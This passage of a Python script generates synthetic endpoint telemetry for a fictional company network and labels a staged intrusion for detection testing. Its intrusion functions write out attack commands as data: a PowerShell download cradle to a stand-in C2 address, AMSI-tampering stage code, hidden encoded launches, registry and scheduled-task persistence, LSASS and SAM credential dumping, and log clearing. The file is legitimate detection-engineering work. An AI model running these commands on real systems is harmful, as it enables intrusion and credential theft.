        shell = host.console(t + 5000, "cmd.exe /d /s /c npm run build", editor, image=S32 + "cmd.exe", life=24_000, cwd=work)
        node = "C:\\Program Files\\nodejs\\node.exe"
        it = host.create(t + 5300, node, f'"{node}" {work}node_modules\\vite\\bin\\vite.js build', shell, life=22_000, cwd=work, company="Node.js", loads=14)
        for n in range(8):
            host.file(t + 9000 + n * 150, it, f"{work}dist\\assets\\chunk-{host.rng.getrandbits(24):06x}.map")


# ---- The staged intrusion ----------------------------------------------------------------------------------------

def encoded(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_IP}/update/check')"
# Inert on purpose: the types it names do not exist and the address is reserved for documentation.
STAGE = f"""$c = New-Object Net.WebClient
$c.Headers.Add('User-Agent', 'Mozilla/5.0')
$raw = [Convert]::FromBase64String($c.DownloadString('http://{C2_IP}/update/stage'))
$a = [Reflection.Assembly]::Load($raw)
$f = $a.GetType('Sample.AmsiSwitch').GetField('off', 'NonPublic,Static')
$f.SetValue($null, $true)
IEX $c.DownloadString('http://{C2_IP}/update/run')"""
RECON = """$s = New-Object DirectoryServices.DirectorySearcher
$s.Filter = '(&(objectCategory=computer)(operatingSystem=*Server*))'
$s.FindAll() | ForEach-Object { $_.Properties['dnshostname'] }
Get-LocalGroupMember -Group Administrators"""
UNBACKED = f"{NT}+9d4c4|{KB}+2c13e|UNKNOWN(00000214A7C1{{}})"


def unbacked(host):
    return UNBACKED.format(f"{host.rng.randrange(1 << 16):04X}")


def beacon(host, who, first, last, seconds):
    t = first
    while t < last:
        host.lookup(t, who, C2_NAME, C2_IP)
        host.connect(t + 40, who, C2_IP, 443, name=C2_NAME)
        t += int(seconds * 1000 * (0.8 + 0.4 * host.rng.random()))


def intrusion_desk(ws):
    """fin-ws-014: a document, a hidden PowerShell, a library in the profile, credentials. Returns the implant."""
    know = ws.known
    word = ws.create(at(2, 31), OFFICE + "WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n "{ws.home}Downloads\\Invoice-40817.docm"', know["outlook"], loads=26)
    for library in ["C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL", S32 + "wbem\\wbemdisp.dll"]:
        ws.load(at(2, 38), word, library)
    t = at(2, 41)
    shell = ws.console(t, f"powershell.exe -nop -w hidden -ep bypass -enc {encoded(CRADLE)}", word, life=7 * 60_000)
    ws.open(t + 8, word, shell, "0x1fffff", TRACES["create"] + "|C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL+1f80a1|UNKNOWN(000001C0DE11A0B2)")
    for n, library in enumerate(["mscoree.dll", "amsi.dll"]):
        ws.load(t + 300 + n, shell, S32 + library)
    ws.load(t + 340, shell, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll")
    ws.load(t + 400, shell, "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\3c1f0b2a\\System.Management.Automation.ni.dll", signed=False)
    ws.file(t + 600, shell, f"{ws.home}AppData\\Local\\Temp\\__PSScriptPolicyTest_b7e1x0qd.w2c.ps1")
    ws.pipe(t + 450, shell, f"\\PSHost.134182081621000417.{shell.pid}.DefaultAppDomain.powershell", made=True)
    ws.script(t + 800, shell, CRADLE)
    ws.connect(t + 1200, shell, C2_IP, 80)
    ws.script(t + 2100, shell, STAGE)
    ws.connect(t + 2500, shell, C2_IP, 80)
    # Who and where are we.
    for n, (tool, command) in enumerate([("whoami.exe", "whoami /all"), ("net.exe", 'net group "Domain Admins" /domain'), ("nltest.exe", "nltest /dclist:nordhaven"),
                                         ("systeminfo.exe", "systeminfo"), ("net.exe", "net localgroup administrators"), ("ipconfig.exe", "ipconfig /all"),
                                         ("net.exe", "net view /domain"), ("tasklist.exe", "tasklist /v")]):
        moment = at(3, 2) + n * 6400
        tool_process = ws.create(moment, S32 + tool, command, shell, life=900, loads=10)
        if tool == "net.exe":
            ws.create(moment + 60, S32 + "net1.exe", command.replace("net ", S32 + "net1 ", 1), tool_process, life=700, loads=10)
    ws.script(at(3, 20), shell, RECON)
    ws.connect(at(3, 21), shell, "10.20.0.10", 389)
    # The library and its way back in after a reboot.
    library = ws.home + "AppData\\Roaming\\Updater\\msupd.dll"
    ws.file(at(3, 58), shell, library)
    rundll = ws.create(at(4, 4), S32 + "rundll32.exe", f"rundll32.exe {library},Start", shell, loads=14)
    ws.load(at(4, 4.2), rundll, library, signed=False)
    ws.registry(at(4, 9), rundll, "HKU\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", 13, f"rundll32.exe {library},Start")
    beacon(ws, rundll, at(4, 12), at(9, 40), 9)
    ws.create(at(4, 22), S32 + "schtasks.exe", f'schtasks /create /f /sc minute /mo 30 /tn Updater /tr "rundll32.exe {library},Start"', rundll, life=800)
    # Credentials, then a quieter home.
    for n in range(4):
        ws.open(at(4, 40) + n * 900, rundll, know["lsass"], "0x1010", unbacked(ws))
    ws.open(at(4, 58), rundll, know["explorer"], "0x1f3fff", unbacked(ws))
    ws.emit(at(4, 58.3), 8, {
        "SourceProcessGuid": rundll.guid, "SourceProcessId": str(rundll.pid), "SourceImage": rundll.image, "TargetProcessGuid": know["runtimebroker"].guid,
        "TargetProcessId": str(know["runtimebroker"].pid), "TargetImage": know["runtimebroker"].image, "NewThreadId": "7716", "StartAddress": "0x00000214A7C10000",
        "StartModule": "-", "StartFunction": "-", "SourceUser": rundll.user, "TargetUser": know["runtimebroker"].user})
    ws.open(at(4, 58.1), rundll, know["runtimebroker"], "0x1f3fff", unbacked(ws))
    beacon(ws, know["runtimebroker"], at(5, 5), at(9, 20), 22)
    for n, command in enumerate(["net view \\\\fs-01 /all", "ping -n 1 fs-01", "net use \\\\fs-01\\IPC$", "nltest /domain_trusts /all_trusts"]):
        image = S32 + {"ping": "PING.EXE", "nltest": "nltest.exe"}.get(command.split()[0], "net.exe")
        ws.create(at(5, 24) + n * 11_000, image, command, rundll, life=900, loads=8)
    for moment in [at(5, 50), at(6, 14), at(7, 10), at(8, 20)]:
        ws.open(moment, rundll, know["lsass"], "0x1010", unbacked(ws))
        ws.create(moment + 700, S32 + "cmd.exe", "cmd.exe /c tasklist | findstr /i kwagent", rundll, life=600, loads=8)
    return rundll


def intrusion_server(ws, fs, implant):
    """From the workstation's implant to the file server over WMI and a service."""
    know = fs.known
    for moment, port, who in [(at(6, 41), 135, know["RpcSs"]), (at(6, 41.5), 49671, know["Winmgmt"]), (at(6, 44), 445, know["system"]),
                              (at(7, 30), 445, know["system"]), (at(8, 30), 445, know["system"])]:
        source = ws.connect(moment, implant, fs.ip, port, name="fs-01." + DNS_SUFFIX)
        fs.accept(moment + 3, who, ws.ip, source, port)
    for n, name in enumerate(["\\srvsvc", "\\svcctl", "\\lsass", "\\winreg"]):
        fs.pipe(at(6, 44.4) + n * 300, know["system"], name)
    wmi = know["wmiprvse"]
    payload = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_IP}/update/server')"
    shell = fs.console(at(6, 48), f"powershell.exe -nop -w hidden -enc {encoded(payload)}", wmi, SYSTEM, life=190_000)
    fs.load(at(6, 48.4), shell, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll")
    fs.script(at(6, 49), shell, payload)
    fs.script(at(6, 50), shell, STAGE)
    fs.connect(at(6, 51), shell, C2_IP, 80)
    for n, (tool, command) in enumerate([("whoami.exe", "whoami /groups"), ("hostname.exe", "hostname"), ("net.exe", "net share"), ("quser.exe", "quser"), ("net.exe", "net localgroup administrators")]):
        fs.create(at(6, 58) + n * 3500, S32 + tool, command, shell, life=800, loads=8)
    # A service, whose program is a command line.
    fs.registry(at(7, 31), know["services"], "HKLM\\System\\CurrentControlSet\\Services\\KwHelper\\Start", 13, "DWORD (0x00000003)")
    fs.registry(at(7, 31.1), know["services"], "HKLM\\System\\CurrentControlSet\\Services\\KwHelper\\ImagePath", 13, f"%%COMSPEC%% /b /c start /b /min powershell.exe -nop -w hidden -enc {encoded(payload)}".replace("%%", "%"))
    cmd = fs.console(at(7, 32), f"C:\\Windows\\system32\\cmd.exe /b /c start /b /min powershell.exe -nop -w hidden -enc {encoded(payload)}", know["services"], SYSTEM, image=S32 + "cmd.exe", life=2500)
    second = fs.console(at(7, 32.3), f"powershell.exe -nop -w hidden -enc {encoded(payload)}", cmd, SYSTEM, life=160_000)
    fs.script(at(7, 33.5), second, STAGE)
    fs.pipe(at(7, 33), second, f"\\PSHost.134182084530000221.{second.pid}.DefaultAppDomain.powershell", made=True)
    # A program dropped and run; credentials out of memory and registry.
    tool = "C:\\Windows\\Temp\\kwsvc.exe"
    fs.file(at(7, 44), second, tool)
    implant = fs.create(at(7, 49), tool, tool + " -k", second, SYSTEM, company="-", original="-", description="-", loads=16)
    fs.load(at(7, 49.2), implant, "C:\\Windows\\Temp\\kwcore.dll", signed=False)
    fs.pipe(at(7, 50), implant, "\\kwsvc-2217", made=True)
    beacon(fs, implant, at(7, 51), at(10, 15), 8)
    fs.create(at(8, 2), S32 + "reg.exe", "reg save HKLM\\SAM C:\\Windows\\Temp\\s1.hiv /y", implant, life=1500, loads=8)
    fs.create(at(8, 7), S32 + "reg.exe", "reg save HKLM\\SYSTEM C:\\Windows\\Temp\\s2.hiv /y", implant, life=1500, loads=8)
    dump = fs.create(at(8, 19), S32 + "rundll32.exe", f"rundll32.exe {S32}comsvcs.dll, MiniDump {know['lsass'].pid} C:\\Windows\\Temp\\l.dmp full", implant, life=4000, loads=12)
    fs.load(at(8, 19.3), dump, S32 + "comsvcs.dll")
    fs.load(at(8, 19.4), dump, S32 + "dbgcore.dll")
    fs.open(at(8, 19.6), dump, know["lsass"], "0x1fffff", f"{NT}+9d4c4|{KB}+2c13e|{S32}comsvcs.dll+24f01|C:\\Windows\\SYSTEM32\\dbgcore.DLL+71a9|{TAIL}")
    fs.file(at(8, 20), dump, "C:\\Windows\\Temp\\l.dmp")
    for n in range(6):
        fs.open(at(8, 40) + n * 13_000, implant, know["lsass"], "0x1010", unbacked(fs))
    for n, command in enumerate(["vssadmin list shadows", "net use", "wevtutil cl Application", "net session", "nltest /dclist:nordhaven", "whoami"]):
        image = S32 + command.split()[0] + ".exe"
        fs.create(at(8, 50) + n * 14_000, image, command, implant, life=900, loads=8)
    fs.file(at(9, 52), implant, "C:\\Windows\\Temp\\finance-q1.zip")
    fs.connect(at(9, 55), implant, C2_IP, 443, name=C2_NAME)


# ---- Linux -------------------------------------------------------------------------------------------------------

LIBS = ["/etc/ld.so.cache", "/lib/x86_64-linux-gnu/libc.so.6"]
EXTRA = {"sshd": ["libcrypt.so.1", "libpam.so.0", "libaudit.so.1", "libselinux.so.1", "libcrypto.so.3", "libsystemd.so.0", "libz.so.1"],
         "sudo": ["libaudit.so.1", "libselinux.so.1", "libutil.so.1"], "bash": ["libtinfo.so.6"], "apt-get": ["libapt-pkg.so.6.0", "libstdc++.so.6", "libgcc_s.so.1"],
         "ls": ["libselinux.so.1", "libpcre2-8.so.0"], "tar": ["libacl.so.1", "libselinux.so.1"], "rsync": ["libacl.so.1", "libpopt.so.0", "liblz4.so.1", "libzstd.so.1", "libcrypto.so.3"],
         "systemctl": ["libsystemd-shared-252.so", "libcrypto.so.3"], "psql": ["libpq.so.5", "libssl.so.3", "libcrypto.so.3"], "git": ["libpcre2-8.so.0", "libz.so.1"]}


class Linux:
    def __init__(self, capture, name, ip, seed):
        self.capture, self.name, self.ip = capture, name, ip
        self.rng = random.Random(f"{seed}/{name}")
        self.serial = self.rng.randrange(40_000, 90_000)
        self.pid = self.rng.randrange(20_000, 40_000)
        self.session = self.rng.randrange(100, 900)

    def new_pid(self):
        self.pid += self.rng.randrange(1, 4)
        return self.pid

    def line(self, t, source, text):
        topic = "linux-auditd-logs" if source == "auditd" else f"linux-ebpf-{source}-logs"
        self.capture.add(t, topic, {"@timestamp": iso(t), "host": {"name": self.name},
                                    "log_source": "linux-auditd" if source == "auditd" else f"linux-ebpf-{source}", "message": text})

    def ebpf(self, t, tag, pid, comm, rest):
        source = {"EXEC": "process", "FILE": "file"}.get(tag, "network")
        width = 10 if source != "network" else 11
        self.line(t, source, f"{spaced(t)[:19]} {'[' + tag + ']':<{width}}pid={pid:<7} {rest if tag == 'EXEC' else f'{comm[:15]:<16} {rest}'}")

    def file(self, t, pid, comm, path, flags="O_RDONLY"):
        self.ebpf(t, "FILE", pid, comm, f"flags={flags:<10} {path}")

    def connect(self, t, pid, comm, ip, port, tag="CONNECT"):
        if tag == "CONNECT":
            self.ebpf(t, "SOCKET", pid, comm, "AF_INET")
        self.ebpf(t, tag, pid, comm, f"-> {ip}:{port}")

    def record(self, t, parts):
        """The records of one audit event, of one serial."""
        self.serial += 1
        stamp = f"audit({START.timestamp() + t / 1000:.3f}:{self.serial})"
        for kind, text in parts:
            self.line(t, "auditd", f"type={kind} msg={stamp}: {text}")

    def syscall(self, number, name, items, pid, ppid, uid, auid, tty, ses, comm, exe, key, a="a0=55d0c1a4e2b8 a1=55d0c1a4e310 a2=55d0c1a51c40 a3=8", result=0):
        who = {0: "root", 33: "www-data", 105: "postgres"}.get(uid, f"unknown({uid})")
        return ("SYSCALL", f"arch=c000003e syscall={number} success=yes exit={result} {a} items={items} ppid={ppid} pid={pid} auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={tty} ses={ses} comm=\"{comm[:15]}\" exe=\"{exe}\" key=\"{key}\"\u001dARCH=x86_64 SYSCALL={name} AUID=\"{'unset' if auid == 4294967295 else f'unknown({auid})'}\" UID=\"{who}\" GID=\"{who}\"")

    def path(self, item, name, mode="0100755", kind="NORMAL"):
        inode = 400_000 + int(hashlib.md5(name.encode()).hexdigest()[:5], 16)
        return ("PATH", f"item={item} name=\"{name}\" inode={inode} dev=fe:01 mode={mode} ouid=0 ogid=0 rdev=00:00 nametype={kind} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\u001dOUID=\"root\" OGID=\"root\"")

    @staticmethod
    def quoted(text):
        return f'"{text}"' if " " not in text and '"' not in text else text.encode().hex().upper()

    def run(self, t, ppid, caller, exe, argv, uid=0, auid=4294967295, ses=4294967295, tty="(none)", cwd="/", pid=None):
        """A program is executed: auditd's five records, the eBPF line, and the libraries it opens."""
        pid = pid or self.new_pid()
        comm = exe.rsplit("/", 1)[-1]
        words = " ".join(f"a{n}={self.quoted(word)}" for n, word in enumerate(argv))
        self.record(t, [self.syscall(59, "execve", 2, pid, ppid, uid, auid, tty, ses, comm, exe, "exec"), ("EXECVE", f"argc={len(argv)} {words}"),
                        ("CWD", f'cwd="{cwd}"'), self.path(0, exe), self.path(1, "/lib64/ld-linux-x86-64.so.2"),
                        ("PROCTITLE", "proctitle=" + "\0".join(argv).encode().hex().upper()[:256])])
        self.ebpf(t + 1, "EXEC", pid, "", f"ppid={ppid:<7} uid={uid:<5} {caller[:15]:<16} {exe}")
        for n, library in enumerate(LIBS + ["/lib/x86_64-linux-gnu/" + name for name in EXTRA.get(comm, [])]):
            self.file(t + 2 + n // 3, pid, comm, library)
        return pid

    def write(self, t, pid, ppid, comm, exe, name, uid=0, cwd="/", auid=4294967295, ses=4294967295, flags="O_WRONLY|O_CREAT|O_TRUNC"):
        self.record(t, [self.syscall(257, "openat", 2, pid, ppid, uid, auid, "(none)", ses, comm, exe, "file_write", "a0=ffffff9c a1=55d0c1a4e2b8 a2=241 a3=1b6", 3),
                        ("CWD", f'cwd="{cwd}"'), self.path(0, name.rsplit("/", 1)[0] + "/", "040755", "PARENT"), self.path(1, name, "0100644", "CREATE"),
                        ("PROCTITLE", "proctitle=" + comm.encode().hex().upper())])
        self.file(t, pid, comm, name, flags)

    def every(self, seconds, spread=0.4):
        t = self.rng.random() * seconds
        while t * 1000 < LENGTH_MS - 5000:
            yield int(t * 1000)
            t += seconds * (1 - spread + 2 * spread * self.rng.random())

    def base(self):
        """What each of them does: cron, the metrics exporter, the journal, time, name look-ups."""
        cron = 812
        for minute in range(12):
            t = at(minute, 1) + self.rng.randrange(300)
            pid = self.new_pid()
            self.run(t, cron, "cron", "/usr/bin/dash", ["/bin/sh", "-c", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"], pid=pid, cwd="/root")
            sa = self.run(t + 9, pid, "sh", "/usr/lib/sysstat/debian-sa1", ["/bin/sh", "/usr/lib/sysstat/debian-sa1", "1", "1"], cwd="/root")
            self.run(t + 20, pid, "debian-sa1", "/usr/lib/sysstat/sadc", ["/usr/lib/sysstat/sadc", "-F", "-L", "-S", "DISK", "1", "1", "/var/log/sysstat"], pid=sa, cwd="/root")
            self.write(t + 30, sa, pid, "sadc", "/usr/lib/sysstat/sadc", "/var/log/sysstat/sa17", flags="O_RDWR|O_CREAT")
        exporter = 941
        for t in self.every(15, 0.02):
            self.connect(t, exporter, "node_exporter", "10.20.1.5", 41000 + self.rng.randrange(9000), "ACCEPT")
            for name in ["stat", "meminfo", "loadavg", "net/dev", "diskstats", "vmstat", "mounts", "net/sockstat"]:
                self.file(t + 2, exporter, "node_exporter", "/proc/" + name)
        for t in self.every(11):
            self.file(t, 355, "systemd-journal", f"/proc/{self.rng.randrange(600, 1400)}/{self.rng.choice(['comm', 'cmdline', 'cgroup', 'status'])}")
        for t in self.every(64):
            self.connect(t, 401, "systemd-timesyn", "10.20.0.10", 123)
            self.file(t + 1, 401, "systemd-timesyn", "/var/lib/systemd/timesync/clock", "O_WRONLY|O_CREAT")

    def login(self, t, source, uid, user, commands):
        """An administrator logs in by key and looks around; `commands` are (executable, argv)."""
        self.session += 1
        ses, sshd = self.session, 702
        self.connect(t, sshd, "sshd", source, 50_000 + self.rng.randrange(9000), "ACCEPT")
        child = self.run(t + 5, sshd, "sshd", "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D", "-R"])
        for name in ["/etc/ssh/sshd_config", "/etc/passwd", "/etc/pam.d/sshd", "/etc/security/limits.conf", f"/home/{user}/.ssh/authorized_keys", "/etc/motd"]:
            self.file(t + 60, child, "sshd", name)
        self.file(t + 70, child, "sshd", "/proc/self/loginuid", "O_RDWR")
        bash = self.run(t + 120, child + 1, "sshd", "/usr/bin/bash", ["-bash"], uid, uid, ses, "pts0", f"/home/{user}")
        for name in ["/etc/profile", "/etc/bash.bashrc", f"/home/{user}/.bashrc", f"/home/{user}/.bash_history"]:
            self.file(t + 140, bash, "bash", name)
        clock = t + 4000
        for exe, argv in commands:
            pid = self.run(clock, bash, "bash", exe, argv, uid, uid, ses, "pts0", f"/home/{user}")
            if argv[0] == "sudo":
                for name in ["/etc/sudo.conf", "/etc/sudoers", "/etc/passwd", "/etc/group"]:
                    self.file(clock + 10, pid, "sudo", name)
                tool = {"systemctl": "/usr/bin/systemctl", "journalctl": "/usr/bin/journalctl", "apt-get": "/usr/bin/apt-get"}[argv[1]]
                self.run(clock + 60, pid, "sudo", tool, argv[1:], 0, uid, ses, "pts0", f"/home/{user}")
            clock += self.rng.randrange(5000, 14000)


def web(h):
    for t in h.every(0.9, 0.9):
        pid = h.rng.choice([1203, 1204, 1205, 1206])
        h.connect(t, pid, "nginx", f"198.51.100.{h.rng.randrange(2, 250)}", h.rng.randrange(1025, 65000), "ACCEPT")
        if h.rng.random() < 0.5:
            h.file(t + 1, pid, "nginx", "/srv/www/shop/" + h.rng.choice(["index.html", "app.css", "app.js", "img/logo.svg", "img/hero.webp", "fonts/body.woff2"]))
        else:
            h.connect(t + 1, pid, "nginx", "127.0.0.1", 8000)
            h.connect(t + 2, 1310, "gunicorn", "127.0.0.1", 40_000 + h.rng.randrange(9000), "ACCEPT")
            h.connect(t + 3, 1310, "gunicorn", "10.20.1.21", 5432)
            h.file(t + 5, 1310, "gunicorn", "/srv/www/shop/templates/" + h.rng.choice(["list.html", "item.html", "cart.html"]))
    h.login(at(2, 10), "10.20.0.57", 1001, "jorn", [("/usr/bin/systemctl", ["systemctl", "status", "nginx"]), ("/usr/bin/tail", ["tail", "-n", "50", "/var/log/nginx/error.log"]),
            ("/usr/bin/df", ["df", "-h"]), ("/usr/bin/sudo", ["sudo", "systemctl", "reload", "nginx"]), ("/usr/bin/ls", ["ls", "-l", "/srv/www/shop"])])
    rotate = h.run(at(6, 0.4), 812, "cron", "/usr/bin/dash", ["/bin/sh", "-c", "/usr/sbin/logrotate /etc/logrotate.d/nginx"])
    it = h.run(at(6, 0.5), rotate, "sh", "/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.d/nginx"])
    h.write(at(6, 0.7), it, rotate, "logrotate", "/usr/sbin/logrotate", "/var/lib/logrotate/status.tmp")


def database(h):
    for t in h.every(1.3, 0.9):
        pid = h.rng.choice([1502, 1503, 1511, 1518])
        h.connect(t, 1490, "postgres", "10.20.1.11", h.rng.randrange(32000, 60000), "ACCEPT")
        for _ in range(h.rng.randrange(1, 5)):
            h.file(t + 2, pid, "postgres", f"/var/lib/postgresql/15/main/base/16412/{h.rng.randrange(16400, 16900)}", "O_RDWR")
    for t in h.every(30):
        h.write(t, 1495, 1490, "postgres", "/usr/lib/postgresql/15/bin/postgres", f"/var/lib/postgresql/15/main/pg_wal/00000001000000070000{h.rng.randrange(16, 200):04X}", 105, "/var/lib/postgresql/15/main", flags="O_RDWR|O_CREAT")
    dump = h.run(at(4, 0.6), 812, "cron", "/usr/bin/dash", ["/bin/sh", "-c", "/usr/bin/pg_dump -Fc shop -f /var/backups/pg/shop.dump"], 105, cwd="/var/lib/postgresql")
    it = h.run(at(4, 0.8), dump, "sh", "/usr/lib/postgresql/15/bin/pg_dump", ["/usr/bin/pg_dump", "-Fc", "shop", "-f", "/var/backups/pg/shop.dump"], 105, cwd="/var/lib/postgresql")
    h.write(at(4, 2), it, dump, "pg_dump", "/usr/lib/postgresql/15/bin/pg_dump", "/var/backups/pg/shop.dump", 105)
    h.login(at(8, 5), "10.20.0.57", 1002, "asta", [("/usr/bin/psql", ["psql", "-U", "reporting", "-d", "shop", "-c", "select count(*) from orders"]), ("/usr/bin/df", ["df", "-h"]),
            ("/usr/bin/sudo", ["sudo", "journalctl", "-u", "postgresql", "-n", "40"]), ("/usr/bin/uptime", ["uptime"])])


def builder(h):
    for run, t in enumerate(h.every(95, 0.1)):
        cwd = "/srv/build/parcel"
        agent = 1722
        git = h.run(t, agent, "runner", "/usr/bin/git", ["git", "fetch", "--prune", "origin"], 998, cwd=cwd)
        h.connect(t + 200, git, "git", "10.20.1.60", 22)
        make = h.run(t + 3000, agent, "runner", "/usr/bin/make", ["make", "-j4", "all"], 998, cwd=cwd)
        clock = t + 3200
        for unit in h.rng.sample(["main", "router", "codec", "index", "store", "queue", "parser", "timer", "config", "client", "server", "table"], 7):
            gcc = h.run(clock, make, "make", "/usr/bin/gcc", ["gcc", "-O2", "-Wall", "-c", f"src/{unit}.c", "-o", f"obj/{unit}.o"], 998, cwd=cwd)
            cc1 = h.run(clock + 15, gcc, "gcc", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", ["cc1", "-quiet", f"src/{unit}.c", "-O2", "-Wall", "-o", f"/tmp/cc{h.rng.getrandbits(24):06x}.s"], 998, cwd=cwd)
            for header in ["stdio.h", "stdlib.h", "string.h", "errno.h", "x86_64-linux-gnu/bits/types.h"]:
                h.file(clock + 30, cc1, "cc1", "/usr/include/" + header)
            assembler = h.run(clock + 700, gcc, "gcc", "/usr/bin/as", ["as", "--64", "-o", f"obj/{unit}.o"], 998, cwd=cwd)
            h.write(clock + 720, assembler, gcc, "as", "/usr/bin/as", f"{cwd}/obj/{unit}.o", 998, cwd)
            clock += h.rng.randrange(900, 1800)
        ld = h.run(clock, make, "collect2", "/usr/bin/ld", ["ld", "-o", "parcel", "-lc"], 998, cwd=cwd)
        h.write(clock + 90, ld, make, "ld", "/usr/bin/ld", cwd + "/parcel", 998, cwd)
    apt = h.run(at(7, 20), 1, "systemd", "/usr/lib/apt/apt.systemd.daily", ["/bin/sh", "/usr/lib/apt/apt.systemd.daily", "update"])
    get = h.run(at(7, 20.6), apt, "apt.systemd.dai", "/usr/bin/apt-get", ["apt-get", "-qq", "-y", "update"])
    method = h.run(at(7, 21), get, "apt-get", "/usr/lib/apt/methods/http", ["/usr/lib/apt/methods/http"], 42)
    h.connect(at(7, 21.3), method, "http", "198.51.100.90", 80)
    for n in range(6):
        h.write(at(7, 22) + n * 300, get, apt, "apt-get", "/usr/bin/apt-get", f"/var/lib/apt/lists/partial/deb.mirror.example_debian_dists_bookworm_{n}")


def vault(h):
    for run, t in enumerate(h.every(120, 0.1)):
        shell = h.run(t, 812, "cron", "/usr/bin/dash", ["/bin/sh", "-c", "/usr/local/sbin/pull-backups"])
        script = h.run(t + 20, shell, "sh", "/usr/bin/bash", ["/bin/bash", "/usr/local/sbin/pull-backups"])
        for n, host in enumerate(["10.20.1.11", "10.20.1.21", "10.20.1.31"]):
            name = ["web-01", "db-01", "build-01"][n]
            rsync = h.run(t + 100 + n * 9000, script, "pull-backups", "/usr/bin/rsync", ["rsync", "-a", "--delete", f"backup@{name}:/var/backups/", f"/vault/{name}/"])
            ssh = h.run(t + 140 + n * 9000, rsync, "rsync", "/usr/bin/ssh", ["ssh", "-l", "backup", name, "rsync", "--server", "--sender", "-logDtpre.iLsfxCIvu", ".", "/var/backups/"])
            h.connect(t + 160 + n * 9000, ssh, "ssh", host, 22)
            for k in range(12):
                h.file(t + 400 + n * 9000 + k * 40, rsync, "rsync", f"/vault/{name}/.part-{k:02d}.{h.rng.getrandbits(20):05x}", "O_RDWR|O_CREAT|O_EXCL")
        tar = h.run(t + 31_000, script, "pull-backups", "/usr/bin/tar", ["tar", "-czf", f"/vault/archive/day-{run}.tar.gz", "-C", "/vault", "web-01", "db-01", "build-01"])
        h.write(t + 31_050, tar, script, "tar", "/usr/bin/tar", f"/vault/archive/day-{run}.tar.gz")
        for k in range(60):
            h.file(t + 31_100 + k * 30, tar, "tar", f"/vault/{h.rng.choice(['web-01', 'db-01', 'build-01'])}/set{k % 9}/file{k:03d}.dat")
    for t in h.every(25):
        h.connect(t, 1660, "kwvault", f"10.20.0.{h.rng.choice([10, 12, 34, 41, 57])}", h.rng.randrange(49700, 60000), "ACCEPT")
        h.file(t + 20, 1660, "kwvault", f"/vault/chunks/{h.rng.getrandbits(24):06x}", "O_WRONLY|O_CREAT|O_EXCL")


# ---- All of it ---------------------------------------------------------------------------------------------------

FILE_SERVER = None


def build(seed):
    global FILE_SERVER
    capture = Capture()
    FILE_SERVER = Windows(capture, "FS-01", "10.20.0.12", "administrator", seed, server=True)
    controller = Windows(capture, "DC-01", "10.20.0.10", "administrator", seed, server=True)
    finance = Windows(capture, "FIN-WS-014", "10.20.0.34", "mreyes", seed)
    people = Windows(capture, "HR-WS-007", "10.20.0.41", "kbauer", seed)
    engineer = Windows(capture, "ENG-WS-021", "10.20.0.57", "dlind", seed)
    for host in [FILE_SERVER, controller, finance, people, engineer]:
        host.background()
    housekeeping(FILE_SERVER)
    housekeeping(controller)
    developer(engineer)
    implant = intrusion_desk(finance)
    intrusion_server(finance, FILE_SERVER, implant)
    for name, ip, work in [("web-01", "10.20.1.11", web), ("db-01", "10.20.1.21", database), ("build-01", "10.20.1.31", builder), ("backup-01", "10.20.1.41", vault)]:
        host = Linux(capture, name, ip, seed)
        host.base()
        work(host)
    return capture


def labels(capture):
    end = iso(LENGTH_MS)
    attacked = {"fin-ws-014": (at(2, 31), at(9, 42)), "fs-01": (at(6, 41), at(10, 20))}
    counts = {}
    for _, _, topic, value in capture.lines:
        counts[value["host"]["name"]] = counts.get(value["host"]["name"], 0) + 1
    benign = [{"host": h, "kind": "clean_host", "interval": [iso(0), end]} for h in sorted(counts) if h not in attacked]
    benign += [{"host": h, "kind": "pre_attack", "interval": [iso(0), iso(first)]} for h, (first, _) in attacked.items()]
    return [{"id": "fleet", "source": "deploy/demo/fleet.py", "family": "fleet", "title": "Staged intrusion in a made-up fleet",
             "start": iso(0), "end": end, "events": len(capture.lines),
             "hosts": [{"host": h, "events": counts[h], "attack_intervals": [[iso(a), iso(b)]]} for h, (a, b) in attacked.items()],
             "clean_hosts": sorted(h for h in counts if h not in attacked), "benign_intervals": benign}]


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--out", type=pathlib.Path, help="write the capture here and labels.json beside it; standard output otherwise")
    parser.add_argument("--seed", type=int, default=41)
    args = parser.parse_args()
    capture = build(args.seed)
    if args.out is None:
        capture.write(sys.stdout)
        return
    with args.out.open("w", encoding="utf-8") as out:
        capture.write(out)
    args.out.with_name("labels.json").write_text(json.dumps(labels(capture), indent=1) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
